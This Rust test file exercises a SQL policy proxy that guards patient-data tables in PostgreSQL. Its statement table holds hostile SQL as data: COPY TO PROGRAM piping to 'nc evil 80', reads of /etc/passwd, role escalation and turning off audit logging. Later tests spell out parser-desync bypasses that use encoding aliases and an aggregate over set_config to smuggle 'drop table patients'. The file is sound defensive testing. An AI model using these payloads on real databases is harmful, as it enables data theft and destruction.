//! SQL policy on the wire: every statement judged on PostgreSQL's parse tree before it
//! reaches the database — allowed, blocked with `42501 phigate: blocked by rule …`, or
//! held until a human approves it through `phigate approvals`. Real PostgreSQL, real
//! eBPF redirect, real clients (psql, tokio-postgres over both protocols).

use std::{
    io::{Read, Write},
    net::TcpListener,
    path::PathBuf,
    process::{Command, Output, Stdio},
    sync::{Arc, Mutex},
    time::{Duration, Instant},
};

use phigate_tests::{
    agent::{DbSpec, IdentitySpec},
    cgroup::run_in,
    env::skip,
    pg::{pg_bin, PgOptions},
    target_dir, unique, wait_for, Agent, AgentConfig, PgServer, TestCgroup,
};
use serde_json::{json, Value};

const SETUP_SQL: &str = "create table patients (id int primary key, name text, ssn text, dob date);
create table encounters (id int primary key, patient_id int, note text);
create table labs (id int primary key, patient_id int, test text, value numeric);
insert into patients select g, 'patient ' || g, '900-00-' || lpad(g::text, 4, '0'), date '1970-01-01' + g from generate_series(1, 3000) g;
insert into encounters select g, g, 'note ' || g from generate_series(1, 50) g;
insert into labs select g, g, 'A1C', 5.5 from generate_series(1, 50) g;";

struct Env {
    agent: Agent,
    cg: TestCgroup,
    pg: PgServer,
    dir: PathBuf,
}

impl Drop for Env {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// The PHI tables of the usual policy.
const PHI_TABLES: &[&str] = &["public.patients", "public.encounters"];

fn env(policy_extra: &str) -> Env {
    env_with(PHI_TABLES, policy_extra, |_, cg, cfg| {
        cg.child("agent");
        cfg.protect(&format!("{}/agent", cg.rel()), "care-agent").identity(IdentitySpec::workload("care-agent", "clinical", "postgres"))
    })
}

/// A server with SETUP_SQL and an agent for it with these PHI tables; `prepare` adds
/// to the database, cgroups and configuration (protected cgroups, identities).
fn env_with(phi_tables: &[&str], policy_extra: &str, prepare: impl FnOnce(&PgServer, &TestCgroup, AgentConfig) -> AgentConfig) -> Env {
    let dir = std::env::temp_dir().join(unique("phigate-policy"));
    std::fs::create_dir_all(&dir).unwrap();
    let pg = PgServer::start(PgOptions::default()).expect("PostgreSQL starts");
    pg.psql_admin("postgres", SETUP_SQL).expect("schema");
    let cg = TestCgroup::new();
    let base = AgentConfig::new(&cg).database(DbSpec::new("clinical", &["127.0.0.2/32"], pg.port(), pg.socket_addr()));
    let mut cfg = prepare(&pg, &cg, base);
    cfg.extra = format!("[policy]\nphi_tables = {phi_tables:?}\nunbounded_read_limit = 1000\n{policy_extra}\n");
    let agent = Agent::start(&cfg).expect("agent starts");
    Env { agent, cg, pg, dir }
}

/// psql as the workload in `cgroup` (below the test's), running each statement.
fn psql_cmd(e: &Env, cgroup: &str, statements: &[&str]) -> Command {
    let mut cmd = Command::new(pg_bin("psql"));
    cmd.args(["-h", "127.0.0.2", "-p", &e.pg.port().to_string(), "-U", "agent", "-d", "postgres", "-XAtq"]);
    for s in statements {
        cmd.args(["-c", s]);
    }
    cmd.env("PGSSLMODE", "disable").stdin(Stdio::null());
    run_in(&mut cmd, &e.cg.child_dir(cgroup));
    cmd
}

fn psql(e: &Env, sql: &str) -> Output {
    psql_cmd(e, "agent", &[sql]).output().expect("psql runs")
}

fn approvals(e: &Env, args: &[&str], in_cgroup: Option<&str>) -> Output {
    let mut cmd = Command::new(phigate_tests::agent::phigate_bin());
    cmd.arg("--config").arg(e.agent.config_path()).arg("approvals").args(args).stdin(Stdio::null());
    if let Some(c) = in_cgroup {
        run_in(&mut cmd, &e.cg.child_dir(c));
    }
    cmd.output().expect("phigate approvals runs")
}

fn pending(e: &Env) -> Vec<Value> {
    let out = approvals(e, &["list", "--json"], None);
    assert!(out.status.success(), "approvals list: {}", String::from_utf8_lossy(&out.stderr));
    serde_json::from_slice::<Value>(&out.stdout).unwrap()["approvals"].as_array().cloned().unwrap_or_default()
}

fn wait_pending(e: &Env) -> Value {
    wait_for(Duration::from_secs(10), || pending(e).into_iter().next()).expect("a request appears in `phigate approvals list`")
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    Allow,
    Block(&'static str),
    Approve,
}

use Expect::{Allow, Approve, Block};

/// Statement → what phigate must do. Each runs over the simple and the extended
/// protocol, inside BEGIN … ROLLBACK so nothing a case changes leaks into the next.
const CASES: &[(&str, Expect)] = &[
    // ordinary work is allowed
    ("select * from patients where id = 7", Allow),
    ("select name, dob from patients where id between 1 and 10", Allow),
    ("select * from patients limit 10", Allow),
    ("select * from patients order by id limit 1000", Allow),
    ("select count(*) from patients", Allow),
    ("select max(dob), min(dob) from patients", Allow),
    ("select p.name, e.note from patients p join encounters e on e.patient_id = p.id where p.id = 3", Allow),
    ("with recent as (select * from encounters where id > 40) select count(*) from recent", Allow),
    ("select * from labs", Allow),
    ("insert into labs values (1000, 1, 'LDL', 100)", Allow),
    ("update labs set value = 6.1 where id = 3", Allow),
    ("delete from labs where id = 4", Allow),
    ("update patients set name = 'x' where id = 1", Allow),
    ("select 1", Allow),
    ("set application_name = 'reports'", Allow),
    ("show search_path", Allow),
    ("explain select * from patients where id = 1", Allow),
    ("create temp table scratch (x int)", Allow),
    ("drop table labs", Allow),
    ("alter table labs add column units text", Allow),
    ("truncate labs", Allow),
    ("select set_config('application_name', 'x', false)", Allow),
    ("reset role", Allow),
    // keywords only inside literals, identifiers or comments are allowed
    ("select 'drop table patients' as text", Allow),
    ("select 'delete from patients' || ' where 1=1' as t", Allow),
    ("select $$truncate patients$$", Allow),
    ("select $q$set role postgres$q$", Allow),
    ("select 1 -- drop table patients", Allow),
    ("select /* delete from labs */ 2", Allow),
    ("select 'pg_read_file(''/etc/passwd'')'", Allow),
    ("select 'alter system set x=1'::text", Allow),
    ("select 1 /* a /* nested drop table patients */ still a comment */", Allow),
    ("select $tag$ it's $$ nested $$ drop table patients $tag$", Allow),
    ("select E'\\' delete from labs' as t", Allow),
    // destructive DDL on PHI, with evasions
    ("drop table patients", Block("baseline.drop-phi")),
    ("DROP TABLE PATIENTS", Block("baseline.drop-phi")),
    ("dRoP /* sneaky */ TaBlE public.patients", Block("baseline.drop-phi")),
    ("/* outer /* nested */ still comment */ drop table patients", Block("baseline.drop-phi")),
    ("drop table \"public\".\"patients\"", Block("baseline.drop-phi")),
    ("drop policy if exists own_rows on patients", Block("baseline.drop-phi")),
    ("drop table \"patients\"", Block("baseline.drop-phi")),
    ("drop table U&\"p\\0061tients\"", Block("baseline.drop-phi")),
    ("drop table if exists labs, encounters", Block("baseline.drop-phi")),
    ("drop schema public cascade", Block("baseline.drop-phi")),
    ("truncate patients", Block("baseline.truncate-phi")),
    ("truncate table only public.encounters cascade", Block("baseline.truncate-phi")),
    ("alter table patients drop column ssn", Block("baseline.alter-phi")),
    ("alter table patients rename to p2", Block("baseline.alter-phi")),
    // writes without a real WHERE
    ("delete from labs", Block("baseline.unfiltered-write")),
    ("delete from patients where true", Block("baseline.unfiltered-write")),
    ("delete from patients where 1=1", Block("baseline.unfiltered-write")),
    ("DELETE FROM patients WHERE 'a' = 'a'", Block("baseline.unfiltered-write")),
    ("update patients set ssn = null where id = id", Block("baseline.unfiltered-write")),
    ("update labs set value = 0 where id = 1 or true", Block("baseline.unfiltered-write")),
    ("update labs set value = 0 where not false", Block("baseline.unfiltered-write")),
    ("with gone as (delete from encounters returning *) select count(*) from gone", Block("baseline.unfiltered-write")),
    ("explain analyze delete from labs", Block("baseline.unfiltered-write")),
    ("delete from labs where 2 > 1", Block("baseline.unfiltered-write")),
    ("delete from labs where 1 in (1, 2)", Block("baseline.unfiltered-write")),
    ("update labs set value = 0 where id is null or id is not null", Block("baseline.unfiltered-write")),
    ("merge into labs l using (select 1 as id) s on true when matched then delete", Block("baseline.unfiltered-write")),
    ("delete from labs where 1 = 2", Allow),
    ("prepare wipe as delete from labs", Block("baseline.unfiltered-write")),
    // server-side COPY
    ("copy patients to '/tmp/patients.csv'", Block("baseline.copy-server-side")),
    ("copy labs from '/etc/passwd'", Block("baseline.copy-server-side")),
    ("copy labs to program 'nc evil 80'", Block("baseline.copy-server-side")),
    ("copy (select 1) to program 'id'", Block("baseline.copy-server-side")),
    // copies of PHI into new relations
    ("create table stolen as select * from patients", Block("baseline.copy-phi-relation")),
    ("select * into stolen from patients where id < 100", Block("baseline.copy-phi-relation")),
    ("create view v as select * from patients", Block("baseline.copy-phi-relation")),
    ("create materialized view mv as select name from patients where id > 0", Block("baseline.copy-phi-relation")),
    ("create table stolen as select * from (select * from patients where id > 1) s", Block("baseline.copy-phi-relation")),
    ("create table stolen as select id from labs union select id from patients where id < 5", Block("baseline.copy-phi-relation")),
    ("create table stolen as with p as (select * from patients where id = 1) select * from p", Block("baseline.copy-phi-relation")),
    // dangerous functions
    ("select pg_read_file('/etc/passwd')", Block("baseline.dangerous-function")),
    ("select * from pg_ls_dir('.')", Block("baseline.dangerous-function")),
    ("select lo_import('/etc/passwd')", Block("baseline.dangerous-function")),
    ("select lo_export(1234, '/tmp/x')", Block("baseline.dangerous-function")),
    ("select dblink_connect('host=127.0.0.9')", Block("baseline.dangerous-function")),
    ("select pg_terminate_backend(pg_backend_pid())", Block("baseline.dangerous-function")),
    ("select table_to_xml('patients', true, false, '')", Block("baseline.dangerous-function")),
    ("select query_to_xml('select * from patients', true, false, '')", Block("baseline.dangerous-function")),
    ("select * from labs where id = (select length(pg_read_binary_file('/etc/hosts'))::int)", Block("baseline.dangerous-function")),
    ("select PG_CATALOG.PG_READ_FILE('/etc/hostname')", Block("baseline.dangerous-function")),
    ("select * from ts_stat('select to_tsvector(note) from encounters')", Block("baseline.dangerous-function")),
    // identity and server settings
    ("set role postgres", Block("baseline.role-change")),
    ("SET LOCAL ROLE postgres", Block("baseline.role-change")),
    ("set session authorization postgres", Block("baseline.role-change")),
    ("select set_config('role', 'postgres', false)", Block("baseline.role-change")),
    ("set standard_conforming_strings = off", Block("baseline.parser-settings")),
    ("set client_encoding = 'SJIS'", Block("baseline.parser-settings")),
    ("alter system set log_statement = 'none'", Block("baseline.alter-system")),
    ("create role mallory login", Block("baseline.role-ddl")),
    ("alter role postgres password 'x'", Block("baseline.role-ddl")),
    ("grant pg_read_server_files to current_user", Block("baseline.role-ddl")),
    ("alter role current_user set role = 'postgres'", Block("baseline.role-ddl")),
    ("grant select on patients to public", Block("baseline.grants")),
    ("revoke all on labs from public", Block("baseline.grants")),
    ("set session_replication_role = replica", Block("baseline.safeguard-settings")),
    ("select set_config('pgaudit.log', 'none', false)", Block("baseline.safeguard-settings")),
    // code phigate cannot inspect
    ("do $$ begin execute 'drop table patients'; end $$", Block("baseline.opaque-code")),
    ("DO LANGUAGE plpgsql $body$ BEGIN PERFORM 1; END $body$", Block("baseline.opaque-code")),
    ("create function f() returns int language sql as 'select 1'", Block("baseline.opaque-code")),
    ("create or replace procedure p() language sql as $$ delete from labs $$", Block("baseline.opaque-code")),
    ("create extension dblink", Block("baseline.opaque-code")),
    ("load 'plpgsql'", Block("baseline.opaque-code")),
    // parse failures and multi-statement strings
    ("selec * from patients", Block("parse-error")),
    ("select 1; drop table patients", Block("baseline.drop-phi")),
    // reads that need a human
    ("select * from patients", Approve),
    ("select * from patients where true", Approve),
    ("select * from patients where id = id", Approve),
    ("select * from public.patients p", Approve),
    ("select * from patients limit 5000", Approve),
    ("select name from patients union all select note from encounters", Approve),
    ("select * from (select * from encounters) e where e.id = 1", Approve),
    ("copy patients to stdout", Approve),
    ("copy (select * from patients where id < 10) to stdout", Approve),
];

fn classify(o: &Value) -> Result<Expect, String> {
    if o["ok"] == true {
        return Ok(Allow);
    }
    let msg = o["message"].as_str().unwrap_or("");
    if let Some(rest) = msg.strip_prefix("phigate: blocked by rule ") {
        assert_eq!(o["code"], "42501", "{o}");
        let rule = rest.split(':').next().unwrap_or("");
        return Ok(Block(Box::leak(rule.to_string().into_boxed_str())));
    }
    if msg.starts_with("phigate: not approved within") {
        return Ok(Approve);
    }
    if msg.starts_with("phigate") {
        return Err(format!("unexpected phigate error {msg}"));
    }
    // The database itself refused (e.g. COPY TO STDOUT through query()): phigate let it through.
    Ok(Allow)
}

#[test]
fn table_of_statements_over_simple_and_extended_protocol() {
    if skip("table_of_statements_over_simple_and_extended_protocol") {
        return;
    }
    assert!(CASES.len() >= 80, "at least 80 cases");
    let e = env("approval_timeout_secs = 1");
    let file = e.dir.join("cases.json");
    std::fs::write(&file, serde_json::to_string(&CASES.iter().map(|(s, _)| *s).collect::<Vec<_>>()).unwrap()).unwrap();
    let bin = std::env::var_os("PHIGATE_PGCLIENT_BIN").map(PathBuf::from).unwrap_or_else(|| target_dir().join("debug/phigate-pgclient"));
    let conn = format!("host=127.0.0.2 port={} user=agent dbname=postgres connect_timeout=10", e.pg.port());
    let mut cmd = Command::new(bin);
    cmd.args(["cases", &conn, file.to_str().unwrap()]).stdin(Stdio::null());
    run_in(&mut cmd, &e.cg.child_dir("agent"));
    let out = cmd.output().unwrap();
    let report: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|err| panic!("{err}: {}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr)));
    assert_eq!(report["ok"], true, "{report}");
    assert_eq!(report["alive"], 1, "the session stays usable after all refusals");
    let mut failures = Vec::new();
    for ((sql, expect), got) in CASES.iter().zip(report["cases"].as_array().unwrap()) {
        for proto in ["simple", "extended"] {
            match classify(&got[proto]) {
                Ok(g) if g == *expect => {}
                Ok(g) => failures.push(format!("{proto:>8}: {sql}\n          expected {expect:?}, got {g:?}: {}", got[proto])),
                Err(msg) => failures.push(format!("{proto:>8}: {sql}: {msg}")),
            }
        }
    }
    assert!(failures.is_empty(), "{} of {} checks failed:\n{}", failures.len(), CASES.len() * 2, failures.join("\n"));
    // The same through psql, a different client of the simple protocol.
    let o = psql(&e, "drop table patients");
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("ERROR:  phigate: blocked by rule baseline.drop-phi: DROP of PHI table patients"),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert_eq!(e.pg.psql_admin("postgres", "select count(*) from patients").unwrap(), "3000", "nothing was dropped");
}

#[test]
fn blocked_statement_keeps_the_connection_usable_in_psql_and_pipelines() {
    if skip("blocked_statement_keeps_the_connection_usable_in_psql_and_pipelines") {
        return;
    }
    let e = env("");
    let script = e.dir.join("s.sql");
    std::fs::write(&script, "select 1;\ndelete from labs;\nselect count(*) from labs;\nbegin;\ninsert into labs values (900, 1, 'x', 1);\ntruncate patients;\ncommit;\nselect count(*) from labs where id = 900;\n").unwrap();
    let mut cmd = Command::new(pg_bin("psql"));
    cmd.args(["-h", "127.0.0.2", "-p", &e.pg.port().to_string(), "-U", "agent", "-d", "postgres", "-XAtq", "-f", script.to_str().unwrap()])
        .env("PGSSLMODE", "disable")
        .stdin(Stdio::null());
    run_in(&mut cmd, &e.cg.child_dir("agent"));
    let o = cmd.output().unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(out.lines().collect::<Vec<_>>(), vec!["1", "50", "1"], "stdout: {out}\nstderr: {err}");
    assert!(err.contains("blocked by rule baseline.unfiltered-write") && err.contains("blocked by rule baseline.truncate-phi"), "{err}");
}

fn spawn_psql(e: &Env, sql: &str) -> std::process::Child {
    spawn(psql_cmd(e, "agent", &[sql]))
}

/// Start `cmd` with its output piped.
fn spawn(mut cmd: Command) -> std::process::Child {
    cmd.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("psql starts")
}

#[test]
fn held_statement_approved_through_the_cli_returns_its_rows() {
    if skip("held_statement_approved_through_the_cli_returns_its_rows") {
        return;
    }
    let e = env("approval_timeout_secs = 60");
    let child = spawn_psql(&e, "select count(*) from (select * from patients) p");
    let req = wait_pending(&e);
    assert_eq!(req["requester"]["identity"], "care-agent");
    assert_eq!(req["rule"], "baseline.unbounded-phi-read");
    assert_eq!(req["statement"], "select count(*) from (select * from patients) p");
    assert_eq!(req["database"], "clinical");
    assert_eq!(req["dbname"], "postgres");
    assert!(req["waiting_secs"].as_u64().is_some(), "{req}");
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(e.agent.admin_socket()).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "the admin socket is for root only");
    let table = approvals(&e, &["list"], None);
    let table = String::from_utf8_lossy(&table.stdout);
    assert!(table.contains("care-agent") && table.contains("baseline.unbounded-phi-read") && table.contains("select count(*)"), "{table}");
    let id = req["id"].to_string();
    let o = approvals(&e, &["approve", &id, "--reason", "monthly census, ticket 42"], None);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let out = child.wait_with_output().unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "3000", "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stderr).contains("held for approval"), "the client was told why it waited");
    assert!(pending(&e).is_empty());
    let decided = e.agent.events_named("approval decided");
    assert_eq!(decided[0]["approver"], "unix:root");
    // The decision stays on record with approver, reason and timestamps.
    let shown = approvals(&e, &["show", &id], None);
    assert!(shown.status.success(), "{}", String::from_utf8_lossy(&shown.stderr));
    let shown: Value = serde_json::from_slice(&shown.stdout).unwrap();
    assert_eq!(shown["outcome"], "approved", "{shown}");
    assert_eq!(shown["by"], "unix:root");
    assert_eq!(shown["reason"], "monthly census, ticket 42");
    assert!(shown["decided_at"].as_u64().unwrap() >= shown["requested_at"].as_u64().unwrap());
    assert_eq!(shown["approver"]["name"], "unix:root");
}

#[test]
fn held_statement_denied_or_timed_out_is_refused() {
    if skip("held_statement_denied_or_timed_out_is_refused") {
        return;
    }
    let e = env("approval_timeout_secs = 3");
    let child = spawn_psql(&e, "select * from encounters");
    let req = wait_pending(&e);
    let o = approvals(&e, &["deny", &req["id"].to_string(), "--reason", "use the summary view"], None);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("phigate: denied by unix:root (rule baseline.unbounded-phi-read): use the summary view"), "{err}");
    // Nobody decides: refused at the deadline.
    let started = Instant::now();
    let out = psql(&e, "select * from encounters");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("phigate: not approved within 3 s"), "{err}");
    assert!(started.elapsed() >= Duration::from_secs(3) && started.elapsed() < Duration::from_secs(15));
    assert!(pending(&e).is_empty(), "expired requests are withdrawn");
}

#[test]
fn requester_cannot_approve_its_own_request() {
    if skip("requester_cannot_approve_its_own_request") {
        return;
    }
    let e = env("approval_timeout_secs = 60");
    let child = spawn_psql(&e, "select * from encounters");
    let req = wait_pending(&e);
    let id = req["id"].to_string();
    // The same workload (a process in the requester's protected cgroup) tries.
    let o = approvals(&e, &["approve", &id, "--reason", "I approve myself"], Some("agent"));
    assert!(!o.status.success());
    assert!(String::from_utf8_lossy(&o.stderr).contains("self-approval refused"), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(pending(&e).len(), 1, "still waiting");
    let o = approvals(&e, &["approve", &id, "--reason", "checked by a human"], None);
    assert!(o.status.success());
    let out = child.wait_with_output().unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout).lines().count(), 50);
}

#[test]
fn grant_window_lets_the_repeat_through_and_expires() {
    if skip("grant_window_lets_the_repeat_through_and_expires") {
        return;
    }
    let e = env("approval_timeout_secs = 30");
    let child = spawn_psql(&e, "select * from public.encounters");
    let req = wait_pending(&e);
    let o = approvals(&e, &["approve", &req["id"].to_string(), "--reason", "batch job", "--window", "4s"], None);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    child.wait_with_output().unwrap();
    // (Its table named with its schema: a window cannot name a statement whose table a
    // session's search_path picks.)
    // The same statement again, within the window: not held (held, it would wait out
    // the 30 s timeout and fail), and the audit log says whose window let it run.
    let out = psql(&e, "select * from public.encounters");
    assert_eq!(String::from_utf8_lossy(&out.stdout).lines().count(), 50);
    assert!(pending(&e).is_empty());
    let rec = e.agent.wait_audit("statement", |d| d["approval"]["outcome"] == "approved_by_window").expect("the window's use is recorded");
    assert_eq!(rec["data"]["approval"]["by"], "unix:root");
    assert_eq!(rec["data"]["text"], "select * from public.encounters");
    // Another PHI table is not covered by the grant.
    let other = spawn_psql(&e, "select * from public.patients");
    let req2 = wait_pending(&e);
    assert_eq!(req2["statement"], "select * from public.patients");
    approvals(&e, &["deny", &req2["id"].to_string(), "--reason", "no"], None);
    other.wait_with_output().unwrap();
    // After the window: held again.
    std::thread::sleep(Duration::from_secs(4));
    let again = spawn_psql(&e, "select * from public.encounters");
    let req3 = wait_pending(&e);
    assert_eq!(req3["statement"], "select * from public.encounters");
    approvals(&e, &["deny", &req3["id"].to_string(), "--reason", "window over"], None);
    again.wait_with_output().unwrap();
}

#[test]
fn webhook_hears_requests_and_decisions() {
    if skip("webhook_hears_requests_and_decisions") {
        return;
    }
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/hook", server.local_addr().unwrap());
    let got: Arc<Mutex<Vec<Value>>> = Arc::new(Mutex::new(Vec::new()));
    let sink = got.clone();
    std::thread::spawn(move || {
        for conn in server.incoming().take(10) {
            let Ok(mut c) = conn else { continue };
            c.set_read_timeout(Some(Duration::from_secs(5))).ok();
            let mut data = Vec::new();
            let mut buf = [0u8; 8192];
            // Read headers and the announced body.
            while let Ok(n) = c.read(&mut buf) {
                if n == 0 {
                    break;
                }
                data.extend_from_slice(&buf[..n]);
                let text = String::from_utf8_lossy(&data);
                if let Some((head, body)) = text.split_once("\r\n\r\n") {
                    let len = head
                        .lines()
                        .find_map(|l| l.to_ascii_lowercase().strip_prefix("content-length:").map(|v| v.trim().parse::<usize>().unwrap_or(0)))
                        .unwrap_or(0);
                    if body.len() >= len {
                        if let Ok(v) = serde_json::from_str::<Value>(&body[..len]) {
                            sink.lock().unwrap().push(v);
                        }
                        break;
                    }
                }
            }
            let _ = c.write_all(b"HTTP/1.1 204 No Content\r\ncontent-length: 0\r\n\r\n");
        }
    });
    let e = env(&format!("approval_timeout_secs = 30\nwebhook_url = {url:?}"));
    let child = spawn_psql(&e, "select * from encounters");
    let req = wait_pending(&e);
    approvals(&e, &["approve", &req["id"].to_string(), "--reason", "ok"], None);
    child.wait_with_output().unwrap();
    let events = wait_for(Duration::from_secs(10), || {
        let g = got.lock().unwrap();
        (g.len() >= 2).then(|| g.clone())
    })
    .expect("two webhook calls");
    assert_eq!(events[0]["event"], "approval_requested");
    assert_eq!(events[0]["approval"]["requester"]["identity"], "care-agent");
    assert_eq!(events[0]["approval"]["rule"], "baseline.unbounded-phi-read");
    assert_eq!(events[1]["event"], "approval_decided");
    assert_eq!(events[1]["decision"]["outcome"], "approved");
    assert_eq!(events[1]["decision"]["by"], "unix:root");
    assert_eq!(events[1]["approver"]["name"], "unix:root");
    let _ = json!(null);
}

#[test]
fn configured_rules_and_identities_without_policy() {
    if skip("configured_rules_and_identities_without_policy") {
        return;
    }
    let dir = std::env::temp_dir().join(unique("phigate-rules"));
    std::fs::create_dir_all(&dir).unwrap();
    let pg = PgServer::start(PgOptions::default()).unwrap();
    pg.psql_admin("postgres", SETUP_SQL).unwrap();
    let cg = TestCgroup::new();
    cg.child("billing");
    cg.child("nopolicy");
    cg.child("bare");
    let mut cfg = AgentConfig::new(&cg)
        .database(DbSpec::new("clinical", &["127.0.0.2/32"], pg.port(), pg.socket_addr()))
        .protect(&format!("{}/billing", cg.rel()), "billing")
        .protect(&format!("{}/nopolicy", cg.rel()), "nopolicy")
        .protect(&format!("{}/bare", cg.rel()), "bare")
        .identity(IdentitySpec {
            name: "bare".into(),
            // A TOML comment mentioning default_action keeps the harness from adding one.
            auth: "auth = \"workload\"\n# default_action: none, so this identity has no policy".into(),
            access: vec![("clinical".into(), "postgres".into(), vec!["*".into()])],
        })
        .identity(IdentitySpec::workload("billing", "clinical", "postgres"))
        .identity(IdentitySpec {
            name: "nopolicy".into(),
            auth: "auth = \"workload\"\ndefault_action = \"block\"".into(),
            access: vec![("clinical".into(), "postgres".into(), vec!["*".into()])],
        });
    cfg.extra = "[policy]\nphi_tables = [\"public.patients\"]\n[[policy.rule]]\nid = \"billing.read-only\"\nidentities = [\"billing\"]\nstatements = [\"insert\", \"update\", \"delete\"]\naction = \"block\"\nreason = \"billing reads, it does not write\"\n\n[[policy.rule]]\nid = \"billing.no-sleep\"\nidentities = [\"billing\"]\nfunctions = [\"pg_sleep*\"]\naction = \"block\"\nreason = \"no sleeping on the job\"\n\n[[policy.rule]]\nid = \"nopolicy.labs\"\nidentities = [\"nopolicy\"]\nstatements = [\"select\"]\ntables = [\"public.labs\"]\naction = \"allow\"\nreason = \"lab results only\"\n".into();
    let agent = Agent::start(&cfg).unwrap();
    let run = |cgroup: &str, sql: &str| {
        let mut cmd = Command::new(pg_bin("psql"));
        cmd.args(["-h", "127.0.0.2", "-p", &pg.port().to_string(), "-U", "x", "-d", "postgres", "-XAtq", "-c", sql])
            .env("PGSSLMODE", "disable")
            .stdin(Stdio::null());
        run_in(&mut cmd, &cg.child_dir(cgroup));
        let o = cmd.output().unwrap();
        (String::from_utf8_lossy(&o.stdout).trim().to_string(), String::from_utf8_lossy(&o.stderr).to_string())
    };
    assert_eq!(run("billing", "select count(*) from labs").0, "50");
    assert!(run("billing", "update labs set value = 1 where id = 1")
        .1
        .contains("phigate: blocked by rule billing.read-only: billing reads, it does not write"));
    assert!(run("billing", "select pg_sleep(0)").1.contains("blocked by rule billing.no-sleep"));
    // A statement-kind rule sees a DELETE wherever it hides.
    for sql in [
        "with d as (delete from labs where id = 1 returning 1) select * from d",
        "prepare p as update labs set value = 2 where id = 2",
        "explain analyze insert into labs values (77, 1, 'x', 1)",
    ] {
        assert!(run("billing", sql).1.contains("blocked by rule billing.read-only"), "{sql}");
    }
    assert!(
        run("nopolicy", "with d as (delete from public.labs where id = 1 returning 1) select * from d").1.contains("blocked by rule default"),
        "an allow rule for SELECT does not cover a DELETE in a CTE"
    );
    assert_eq!(pg.psql_admin("postgres", "select count(*) from labs where id in (1, 2, 77)").unwrap(), "2", "nothing was deleted or inserted");
    let (out, err) = run("bare", "select 1");
    assert!(out.is_empty() && err.contains("phigate: blocked by rule no-policy: identity \"bare\" has no policy"), "{err}");
    assert_eq!(run("nopolicy", "select count(*) from public.labs where id < 10").0, "9");
    assert!(
        run("nopolicy", "select count(*) from labs where id < 10").1.contains("blocked by rule default"),
        "unqualified names are not trusted by allow rules"
    );
    assert!(run("nopolicy", "select 1").1.contains("blocked by rule default"));
    drop(agent);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn refused_parse_is_answered_at_flush_and_its_name_cannot_be_bound() {
    if skip("refused_parse_is_answered_at_flush_and_its_name_cannot_be_bound") {
        return;
    }
    let e = env("");
    let v = phigate_tests::probe::probe(Some(&e.cg.child_dir("agent")), &["smuggle", &e.pg.addr().to_string()]);
    assert!(v["login"].as_str().unwrap_or("").ends_with('Z'), "{v}");
    // The refusal arrives after Flush, without a Sync (pipelining drivers wait here).
    assert_eq!(v["after_flush"], "E", "{v}");
    assert!(v["parse_error"].as_str().unwrap_or("").starts_with("phigate: blocked by rule baseline.drop-phi"), "{v}");
    assert_eq!(v["after_sync"], "Z", "{v}");
    // The refused statement never reached the server, so its name binds nothing.
    assert_eq!(v["after_bind"], "EZ", "{v}");
    assert!(v["bind_error"].as_str().unwrap_or("").contains("prepared statement \"s1\" does not exist"), "{v}");
    assert_eq!(e.pg.psql_admin("postgres", "select count(*) from patients").unwrap(), "3000");
}

/// The attack `o` ran did not drop patients.
fn assert_patients_survive(e: &Env, o: &Output) {
    let err = String::from_utf8_lossy(&o.stderr);
    let left = e.pg.psql_admin("postgres", "select count(*) from patients");
    assert_eq!(left.as_deref().ok(), Some("3000"), "patients was dropped through phigate: {left:?}\npsql stderr: {err}");
}

/// Runs each statement as its own simple Query (psql, one `-c` each) through
/// phigate, in one session.
fn psql_each(e: &Env, statements: &[&str]) -> Output {
    psql_cmd(e, "agent", statements).output().expect("psql runs")
}

#[test]
fn an_aggregate_over_set_config_cannot_turn_standard_conforming_strings_off() {
    // Found by a review (baseline.parser-settings, baseline.drop-phi): CREATE AGGREGATE names
    // set_config as its state function without calling it, so no FuncCall reaches the
    // policy; the aggregate then turns standard_conforming_strings off, after which
    // '\'' opens a string for the server where phigate's parser closes one.
    if skip("an_aggregate_over_set_config_cannot_turn_standard_conforming_strings_off") {
        return;
    }
    let e = env("");
    let o = psql_each(
        &e,
        &[
            "create aggregate sc(text, boolean) (sfunc = set_config, stype = text, initcond = 'standard_conforming_strings')",
            "select sc('off', false)",
            "select '\\', $$' ; drop table patients; -- $$",
        ],
    );
    assert_patients_survive(&e, &o);
}

#[test]
fn a_client_encoding_alias_cannot_hide_a_backslash_from_the_policy() {
    // Found by a review (baseline.parser-settings): PostgreSQL drops every non-alphanumeric
    // character of an encoding name ('big-5', 'Big 5', 'shiftjis', 'win950' are BIG5 or
    // SJIS), phigate's list only knows a few spellings. In BIG5 the UTF-8 bytes of '严\'
    // (E4 B8 A5 5C) are two characters, the second ending in 0x5C: the backslash that
    // escapes the quote for phigate's parser is gone for the server's.
    if skip("a_client_encoding_alias_cannot_hide_a_backslash_from_the_policy") {
        return;
    }
    let e = env("");
    let o = psql_each(&e, &["set client_encoding = 'big-5'", "select E'严\\' ; drop table patients; -- '"]);
    assert_patients_survive(&e, &o);
}

#[test]
fn always_true_conditions_of_a_third_review_delete_every_row() {
    // Found by a third review (baseline.unfiltered-write): siblings of shapes the
    // second review caught (`id IN (SELECT id)`, `CASE WHEN id = id THEN true END`,
    // COLLATE on both sides). Each runs in a transaction rolled back afterwards; labs
    // has 50 rows. (A semi-join of the target with itself is not caught: README.)
